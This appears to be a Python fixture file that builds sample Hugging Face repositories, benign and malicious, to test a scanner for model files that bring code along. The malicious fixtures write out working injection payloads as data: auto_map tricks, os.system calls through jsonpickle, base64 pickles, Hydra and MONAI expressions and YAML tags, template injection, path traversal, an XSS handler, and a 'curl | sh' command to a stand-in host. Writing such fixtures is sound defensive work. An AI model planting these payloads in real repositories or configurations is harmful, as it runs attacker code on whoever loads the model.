"""Hugging Face repositories as folders: configurations that bring code along, and whole honest ones."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

from corpus import Sample, add, bad, honest
from corpus.repository import CONFIG, dumps, repository


def with_config(**keys: Any) -> Mapping[str, bytes]:
    return repository(config__json=dumps(CONFIG | keys))


@honest("huggingface", "a whole repository: weights, tokenizer, configurations, card, licence, picture")
def whole_repository() -> Mapping[str, bytes]:
    return repository()


@honest("huggingface", "sentence-transformers: modules.json and the folders that it names")
def sentence_transformers() -> Mapping[str, bytes]:
    modules = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
    ]
    pooling = dumps({"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True})
    files = {"modules.json": dumps(modules), "1_Pooling/config.json": pooling, "2_Normalize/README.md": b""}
    return repository() | files | {"config_sentence_transformers.json": dumps({"similarity_fn_name": "cosine"})}


@honest("huggingface", "a PEFT adapter over a model of the hub")
def peft_adapter() -> Mapping[str, bytes]:
    config = {"peft_type": "LORA", "base_model_name_or_path": "meta/llama", "auto_mapping": None, "r": 8}
    return {"adapter_config.json": dumps(config), "adapter_model.safetensors": repository()["model.safetensors"]}


@honest("huggingface", "an adapter whose auto_mapping names transformers' own module")
def peft_auto_mapping() -> Mapping[str, bytes]:
    mapping = {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}
    return {"adapter_config.json": dumps({"peft_type": "LORA", "auto_mapping": mapping})}


@honest("huggingface", "a diffusers pipeline of its own libraries")
def diffusers_pipeline() -> Mapping[str, bytes]:
    index = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "tokenizer": ["transformers", "CLIPTokenizer"],
        "safety_checker": [None, None],
        "feature_extractor": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "force_zeros_for_empty_prompt": True,
    }
    return {"model_index.json": dumps(index), "unet/config.json": dumps({"_class_name": "UNet2DConditionModel"})}


@honest("huggingface", "an index of shards", file="model.safetensors.index.json")
def shard_index() -> bytes:
    return dumps({"metadata": {"total_size": 8}, "weight_map": {"a": "model-00001-of-00002.safetensors"}})


@honest("huggingface", "trainer_state.json, in which Python writes NaN", file="trainer_state.json")
def trainer_state() -> bytes:
    return b'{"best_metric": NaN, "log_history": [{"loss": Infinity, "step": 1}], "epoch": 1.0}'


@honest("huggingface", "auto_map that is empty, and an attention of transformers' own", file="config.json")
def near_miss_config() -> bytes:
    return dumps(CONFIG | {"auto_map": {}, "attn_implementation": "sdpa", "trust_remote_code": False})


@bad("huggingface", "auto_map: Python of the repository runs when it is loaded with remote code")
def auto_map() -> Mapping[str, bytes]:
    return with_config(auto_map={"AutoModel": "modeling_x.X"})


@bad("huggingface", "auto_map that names another repository, which may change any day", file="config.json")
def auto_map_elsewhere() -> bytes:
    return dumps(CONFIG | {"auto_map": {"AutoModel": "other/repo--modeling_x.X"}})


@bad("huggingface", "auto_map in an object below", file="config.json")
def auto_map_nested() -> bytes:
    return dumps(CONFIG | {"text_config": {"deep": [{"auto_map": {"AutoModel": "m.X"}}]}})


@bad("huggingface", "auto_map in the first of two equal keys: json takes the last", file="config.json")
def auto_map_twice() -> bytes:
    return b'{"model_type": "llama", "auto_map": {"AutoModel": "m.X"}, "auto_map": null}'


@bad("huggingface", "auto_map with an escaped name", file="config.json")
def auto_map_escaped() -> bytes:
    return b'{"model_type": "llama", "\\u0061uto_map": {"AutoModel": "m.X"}}'


@bad("huggingface", "auto_map in UTF-16, which json.load reads as well", file="config.json")
def auto_map_wide() -> bytes:
    return json.dumps(CONFIG | {"auto_map": {"AutoModel": "m.X"}}).encode("utf-16")


@bad("huggingface", "auto_map behind a byte order mark", file="config.json")
def auto_map_marked() -> bytes:
    return b"\xef\xbb\xbf" + json.dumps({"auto_map": {"AutoModel": "m.X"}}).encode()


@bad("huggingface", "auto_map in the configuration of a tokenizer or processor", file="preprocessor_config.json")
def auto_map_processor() -> bytes:
    return dumps({"auto_map": {"AutoProcessor": "processing_x.X"}, "image_size": 224})


@bad("huggingface", "Python beside the weights, which AutoModel imports with remote code")
def python_beside() -> Mapping[str, bytes]:
    return repository(modeling_x__py=b"import torch\n\nclass X(torch.nn.Module):\n    pass\n")


@bad("huggingface", "Python whose import runs a command")
def python_with_command() -> Mapping[str, bytes]:
    return repository(configuration_x__py=b"__import__('os').system('id')\n")


@bad("huggingface", "custom generation code: custom_generate/generate.py")
def custom_generate() -> Mapping[str, bytes]:
    code = b"def generate(model, input_ids, **kwargs):\n    return model(input_ids)\n"
    return repository() | {"custom_generate/generate.py": code}


@bad("huggingface", "custom_pipelines: a pipeline of the repository's own code", file="config.json")
def custom_pipelines() -> bytes:
    return dumps(CONFIG | {"custom_pipelines": {"x": {"impl": "pipeline.X", "pt": ["AutoModel"]}}})


@bad("huggingface", "trust_remote_code set by the configuration itself", file="config.json")
def trust_remote_code() -> bytes:
    return dumps(CONFIG | {"trust_remote_code": True})


@bad("huggingface", "an attention kernel that is downloaded and run natively", file="config.json")
def attention_kernel() -> bytes:
    return dumps(CONFIG | {"attn_implementation": "someone/evil-kernel"})


@bad("huggingface", "PEFT imports parent_library", file="adapter_config.json")
def peft_import() -> bytes:
    mapping = {"base_model_class": "system", "parent_library": "os"}
    return dumps({"peft_type": "LORA", "auto_mapping": mapping})


@bad("huggingface", "sentence-transformers imports the type of a module", file="modules.json")
def custom_module() -> bytes:
    return dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_module.Custom"}])


@bad("huggingface", "a type below sentence_transformers that walks to os", file="modules.json")
def module_walks() -> bytes:
    return dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.util.os.Popen"}])


@bad("huggingface", "a module outside the model's folder", file="modules.json")
def module_outside() -> bytes:
    kind = "sentence_transformers.models.Transformer"
    return dumps([{"idx": 0, "name": "0", "path": "../../other", "type": kind}])


@bad("huggingface", "a diffusers component from a module of the standard library", file="model_index.json")
def pipeline_import() -> bytes:
    index = {"_class_name": "DDPMPipeline", "_diffusers_version": "0.3", "unet": ["subprocess", "Popen"]}
    return dumps(index)


@bad("huggingface", "a diffusers component from a Python file of the repository", file="model_index.json")
def pipeline_code() -> bytes:
    return dumps({"_class_name": "DDPMPipeline", "_diffusers_version": "0.3", "unet": ["my_unet", "MyUNet"]})


@bad("huggingface", "a diffusers pipeline class from a Python file", file="model_index.json")
def pipeline_class() -> bytes:
    return dumps({"_class_name": ["my_pipeline", "Mine"], "_diffusers_version": "0.3"})


@bad("huggingface", "shards that lie outside the folder", file="pytorch_model.bin.index.json")
def shards_outside() -> bytes:
    return dumps({"metadata": {}, "weight_map": {"a": "../../../tmp/evil.bin"}})


@bad("huggingface", "jsonpickle in a configuration", file="state.json")
def jsonpickle() -> bytes:
    return dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]})


@bad("huggingface", "a LangChain constructor", file="chain.json")
def langchain() -> bytes:
    return dumps({"lc": 1, "type": "constructor", "id": ["langchain", "tools", "ShellTool"], "kwargs": {}})


@bad("huggingface", "a pickle in base64 in a text of JSON", file="model.json")
def pickle_in_json() -> bytes:
    return dumps({"model": "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="})


@bad("huggingface", "MONAI: a text that begins with $ is evaluated", file="inference.json")
def monai_expression() -> bytes:
    return dumps({"net": {"_target_": "monai.networks.nets.UNet", "x": "$__import__('os').system('id')"}})


@bad("huggingface", "CVE-2025-23304: _target_ of Hydra in JSON", file="config.json")
def hydra_target() -> bytes:
    return dumps({"model": {"_target_": "os.system", "command": "id"}})


@bad("huggingface", "ModelScope installs plug-ins and runs remote code", file="configuration.json")
def modelscope_plugin() -> bytes:
    return dumps({"framework": "pytorch", "task": "chat", "plugins": ["evil"], "allow_remote": True})


@bad("huggingface", "JSON so deep that its reader gives up", file="config.json")
def deep_json() -> bytes:
    return b'{"a":' * 100_000 + b"1" + b"}" * 100_000


@bad("huggingface", "JSON that ends too early", file="config.json")
def cut_json() -> bytes:
    return dumps(CONFIG)[:-10]


@bad("huggingface", "something behind the JSON", file="config.json")
def json_with_tail() -> bytes:
    return dumps(CONFIG) + b'{"auto_map": {"AutoModel": "m.X"}}'


@bad("huggingface", "JSON lines, one of which brings code", file="data.jsonl")
def json_lines() -> bytes:
    return b'{"a": 1}\n{"auto_map": {"AutoModel": "m.X"}}\n'


@bad("huggingface", "a template of a list of named templates", file="tokenizer_config.json")
def named_templates() -> bytes:
    templates = [{"name": "default", "template": "{{ x }}"}, {"name": "rag", "template": "{% set x = ''.__class__ %}"}]
    return dumps({"chat_template": templates})


@bad("huggingface", "a template under a key of another name", file="processor_config.json")
def template_elsewhere() -> bytes:
    return dumps({"format": "{{ ''.__class__.__mro__ }}"})


@bad("huggingface", "setup.py beside a model runs when the folder is installed")
def setup_beside() -> Mapping[str, bytes]:
    return repository(setup__py=b"from setuptools import setup\nsetup(name='x')\n")


@bad("huggingface", "a pointer of Git LFS in the place of the weights", file="model.safetensors")
def lfs_pointer() -> bytes:
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 123\n"


@bad("huggingface", "a model card with an object in its front matter")
def card_with_tag() -> Mapping[str, bytes]:
    return repository(README__md=b"---\nlicense: !!python/object/apply:os.system ['id']\n---\n# Model\n")


@bad("huggingface", "a model card with script")
def card_with_script() -> Mapping[str, bytes]:
    return repository(README__md=b"# Model\n\n<img src=x onerror=alert(1)>\n")


@honest("huggingface", "a component of diffusers that lists two blocks", file="config.json")
def diffusers_component() -> bytes:
    blocks = ["DownBlock2D", "AttnDownBlock2D"]
    return dumps({"_class_name": "UNet2DModel", "_diffusers_version": "0.3", "down_block_types": blocks})


MORE = {
    "commented_json": ("config.json", b'// remarks\n{"auto_map": {"AutoModel": "m.X"}}'),
    "json5": ("config.json5", b"{auto_map: {AutoModel: 'm.X'}}"),
    "yaml_that_begins_as_json": ("config.yaml", b'{"a": !!python/name:os.system ""}'),
    "index_without_version": ("model_index.json", b'{"_class_name": "X", "unet": ["os", "system"]}'),
    "module_with_odd_idx": ("modules.json", b'[{"idx": "0", "name": "0", "path": "", "type": "os.system"}]'),
    "monai_initialize": ("inference.json", b'{"initialize": ["$import os", "$os.system(1)"]}'),
    "old_notebook": (
        "demo.ipynb",
        dumps(
            {"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\nos.system('id')"]}]}], "nbformat": 3}
        ),
    ),
    "secret_by_name": ("config.json", b'{"api_key": "Zt3KvLx0PbW7sYhRn2Jd"}'),
    "secret_in_env": (".env", b"export=1\nAPI_KEY=Zt3KvLx0PbW7sYhRn2Jd\n"),
    "command_in_yaml": ("compose.yaml", b"services:\n  x:\n    command: sh -c 'curl http://e.example/x | sh'\n"),
    "order_in_json": ("config.json", b'{"a": "\\u202e evil text which is long enough \\u202c"}'),
    "binary_pickle_in_yaml": ("a.yaml", b"- !!binary gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n"),
}
for _name, (_file, _data) in MORE.items():
    _build = lambda data=_data: data  # noqa: E731
    _why = f"a configuration: {_name.replace('_', ' ')}"
    add(Sample(f"huggingface/{_name}", "huggingface", _why, _file, "", _build, dangerous=True))
